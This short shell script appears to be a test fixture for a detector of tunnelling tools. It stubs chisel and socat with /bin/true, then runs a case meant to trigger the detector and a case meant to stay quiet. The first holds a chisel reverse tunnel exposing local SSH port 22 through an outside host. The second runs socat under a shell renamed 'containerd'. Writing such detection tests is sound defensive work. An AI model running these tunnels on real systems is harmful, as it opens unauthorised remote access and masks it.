# chisel, and socat from a shell. Quiet: Kubernetes forwards a port by socat.
for tool in chisel socat; do cp /bin/true /usr/local/bin/$tool; done
case $1 in
fires)
  chisel client https://203.0.113.7 R:8080:127.0.0.1:22
  socat TCP-LISTEN:8443,fork TCP:10.0.0.9:443
  ;;
quiet)
  cp /bin/sh /usr/local/bin/containerd
  containerd -c 'socat - TCP4:localhost:8080; :'
  ;;
esac
